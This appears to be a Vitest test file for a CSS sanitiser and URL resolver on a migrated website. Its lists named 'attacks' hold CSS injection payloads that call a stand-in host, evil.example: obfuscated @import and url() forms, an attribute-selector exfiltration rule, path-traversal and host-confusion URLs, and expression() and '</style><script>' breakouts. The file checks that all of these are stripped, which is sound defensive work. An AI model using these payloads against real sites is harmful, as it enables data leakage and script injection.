import { expect, test } from 'vitest';
import { cleanCss } from './clean-css.ts';
import { ownFiles } from '../former-sites.ts';

const own = (address: string) => (address.startsWith('/files/') ? address : undefined);
const clean = (css: string) => cleanCss(css, own).css;

test('keeps declarations that style a page, and rewrites them', () => {
  expect(
    clean(
      '/* old */ <!-- .entry-title , a:hover > b[href^="x"] { COLOR : #0af!important; margin:-.5em +1px 10% } -->',
    ),
  ).toBe('.entry-title , a:hover > b[href^="x"]{color:#0af!important;margin:-.5em +1px 10%;}');
  expect(
    clean(
      '@media (min-width:600px) and (width<900px){a{color:red}@supports (display:grid){b{--x:{a;b}c;top:1px}}}',
    ),
  ).toBe(
    '@media (min-width:600px) and (width<900px){a{color:red;}@supports (display:grid){b{--x:{a;b}c;top:1px;}}}',
  );
  expect(
    clean(
      '@keyframes turn{from{opacity:0}50.5%{opacity:.5}}@layer a,b;.a{&:hover{top:0}left:1px;.b &{top:1px}}',
    ),
  ).toBe(
    '@keyframes turn{from{opacity:0;}50.5%{opacity:.5;}}@layer a,b;.a{&:hover{top:0;}left:1px;.b &{top:1px;}}',
  );
  expect(
    clean(
      '@font-face{font-family:"Own";src:url(/files/own.woff2) format("woff2")}.a{background:url( "/files/a b.png" )}',
    ),
  ).toBe(
    '@font-face{font-family:"Own";src:url("/files/own.woff2") format("woff2");}.a{background:url( "/files/a b.png" );}',
  );
  expect(
    clean(
      'li:nth-child(2n+1) :nth-child( -n+3 ),a/**/b{width:1e3px;margin:.5e-2em;--u:U+26;inset:1\\65 3px}',
    ),
  ).toBe('li:nth-child(2n+1) :nth-child( -n+3 ),a/**/b{width:1e3px;margin:.5e-2em;--u:U+26;}');
  expect(clean('.\\31 0\\:wide,#\\000031{content:"\\201c a\\"b"}.ünï{top:0}')).toBe(
    '.\\31 0\\3a wide,#1{content:"“a\\22 b";}.ünï{top:0;}',
  );
});

test('a comment separates tokens without being a space, and a custom property may be empty', () => {
  expect(
    clean(
      '.a/* x */.b,h1/**/ .c,h2 /* x *//**/> p{--x: ;--y:/**/;color/**/:/**/red/**/;margin:1px/**/2px;top: ;}',
    ),
  ).toBe('.a/**/.b,h1 .c,h2 > p{--x: ;--y: ;color:red;margin:1px/**/2px;}');
  const parted =
    'a{transform:translate(1px)/**/scale(2);background:url("/files/a.png"/**/);width:calc(1px /**/*/**/ 2)}.a/**/*/**/.b{top:0}';
  expect(clean(clean(parted))).toBe(clean(parted));
  expect(clean(parted)).toBe(
    'a{transform:translate(1px)/**/scale(2);background:url("/files/a.png"/**/);width:calc(1px * 2);}.a/**/*/**/.b{top:0;}',
  );
});

test('fetches nothing from other sites, in any notation', () => {
  const attacks = [
    '@import "https://evil.example/x.css";',
    '@import url(//evil.example/x.css);',
    '@\\69mport "https://evil.example";',
    '@IMPORT/**/"https://evil.example";',
    'a{background:url(https://evil.example/a)}',
    'a{background:u\\72l(https://evil.example/a)}',
    'a{background:URL("//evil.example")}',
    'a{background:url(/**/"https://evil.example")}',
    'a{background:image-set("https://evil.example" 1x)}',
    'a{--u:"https://evil.example";background:image-set(var(--u) 1x)}',
    'a{background:-webkit-image-set(("https://evil.example") 1x)}',
    'a{--x:url(https://evil.example)}',
    'a{background:src("https://evil.example")}',
    '@font-face{font-family:a;src:url(https://evil.example/f)}',
    "a{cursor:url('https://evil.example/\n')}",
    'a{background:url(https://evil.example/',
    '@namespace url(https://evil.example);',
    '@document url(https://evil.example){a{top:0}}',
    '@supports (background:url(https://evil.example)){a{top:0}}',
    // Browsers skip a byte order mark at the start of a file; inside a sheet it is a character.
    '\ufeff@import "https://evil.example";',
    '@charset "x";\ufeff\ufeff@import "https://evil.example";a{top:0}',
    'a@import "https://evil.example";{top:0}',
    '@function --f(){result:"https://evil.example"}',
    '@scope (a) to (url(https://evil.example)){b{top:0}}',
    '@layer x{@import "https://evil.example";}',
    '@property --u{syntax:"<url>";initial-value:url(https://evil.example)}',
    'a{background:image-set(if(style(--x):"https://evil.example") 1x)}',
    'a{background:image(ltr "https://evil.example")}',
    '@container style(--x:url(https://evil.example)){a{top:0}}',
    'input[value^=a]{background:url(https://evil.example/a)}',
    'a{b:c;}}@import "https://evil.example";',
    'a{background:url(https://evil.example\\29 )}',
  ];
  for (const css of attacks)
    expect(clean(css).replace('--u:"https://evil.example"', ''), css).not.toMatch(/evil|import/i);
  expect(clean('a{background:image-set(--f() 1x)}')).toBe('');
});

test('resolves URLs as browsers do, those of uploads by their path alone', () => {
  const ours = ownFiles('https://site.example', ['https://old.example']);
  const attacks = [
    '\\\\evil.example/wp-content/uploads/a.png',
    '/\\evil.example/wp-content/uploads/a.png',
    '\t//evil.example/wp-content/uploads/a.png',
    'ht\ntps://evil.example/a.png',
    '/wp-content/uploads/../../wp-login.php?action=logout',
    '/wp-content/uploads/%2e%2e/%2E./wp-json/',
    'https://old.example@evil.example/wp-content/uploads/a.png',
    'https://old.example.evil.example/wp-content/uploads/a.png',
    'https://site.example:81/wp-content/uploads/a.png',
    'data:text/html,evil',
    'javascript:evil',
    'data:image/svg+xml',
    'blob:https://site.example/wp-content/uploads/a',
    '//site.example.evil.example/wp-content/uploads/a.png',
  ];
  for (const address of attacks) expect(ours(address), address).toBeUndefined();
  expect(ours('https://old.example/wp-content/uploads/a.png?to=evil#x')).toBe('/wp-content/uploads/a.png#x');
});

test('runs no script, covers nothing and never closes the element around the sheet', () => {
  const attacks = [
    'a{width:expression(alert(1))}',
    'a{width:exp\\72 ession(alert(1))}',
    'a{behavior:url(/files/x.htc)}',
    'a{-moz-binding:url(/files/x)}',
    'a{b\\65havior:url(/files/x)}',
    'a{position:fixed}',
    'a{position:FIXED!important}',
    'a{position:f\\69xed}',
    'a{--p:fixed;position:var(--p)}',
    'a{z-index:2147483647}',
    'a{z-index:calc(99*99)}',
    'a{position:sticky}',
    'a{position:-webkit-sticky}',
    'a{position:var(--p,fixed)!important}',
    '@keyframes x{to{position:fixed}}',
    'a{&:hover{position:fixed}}',
    'a{overlay:auto}',
    'a{-webkit-text-security:disc}',
    'a{z-index:1e9}',
    'a{z-index:var(--z)}',
  ];
  for (const css of attacks)
    expect(clean(css), css).not.toMatch(/expression|behavior|binding|position|z-index|overlay|security/i);
  expect(clean('a{position:relative!important;z-index:2}b{position:ABSOLUTE ! important}')).toBe(
    'a{position:relative!important;z-index:2;}b{position:ABSOLUTE ! important;}',
  );
  const ends = [
    '</style><script>alert(1)</script>',
    'a{content:"</style><script>"}',
    'a</style>{top:0}',
    '@media </style>{a{top:0}}',
    '.\\3c\\2fstyle\\3e{top:0}',
  ];
  for (const css of ends) {
    expect(clean(css), css).not.toMatch(/<\/|<script|<!--/i);
  }
  expect(cleanCss('@import "x";a{position:fixed;top:0;behavior:x;z-index:20;color:red}', own)).toEqual({
    css: 'a{top:0;color:red;}',
    left: ['@import', 'position: fixed', 'behavior', 'z-index above 19'],
  });
});

test('drops only invalid parts, and leaves clean CSS unchanged', () => {
  expect(clean('a{color:red;;:;top}b{left:1px}')).toBe('a{color:red;}b{left:1px;}');
  expect(clean('}a{top:0}')).toBe('a{top:0;}');
  expect(clean('a{content:"x\n;top:0}b{left:0}')).toContain('b{left:0;}');
  const broken = [
    '',
    'a',
    'a{',
    '@media',
    '@media{',
    '"',
    '\\',
    'a{b:(',
    '/*',
    '@',
    '}}}}',
    '[(',
    'a{b:url(',
    '\0{\0:\0}',
    'a{\\',
    '-->',
    '<!--',
    '\ud800{top:0}',
  ];
  for (const css of broken) {
    const once = clean(css);
    expect(clean(once), css).toBe(once);
  }
  const mixed =
    '@media print{.a\\:b{margin:0 -1px;--q:"\\"";}}#f00{color:#F00}a[b=c i]>d~e+f{transform:rotate(1deg)}';
  expect(clean(clean(mixed))).toBe(clean(mixed));
});

test('large and deep sheets take linear time', () => {
  expect(clean('a{'.repeat(100_000))).toBe('');
  expect(clean('@media x{'.repeat(50_000) + 'a{top:0}')).toBe('');
  expect(clean('('.repeat(200_000))).toBe('');
  expect(clean('}'.repeat(200_000))).toBe('');
  expect(clean('a{top:0}'.repeat(20_000)).length).toBe(180_000);
});
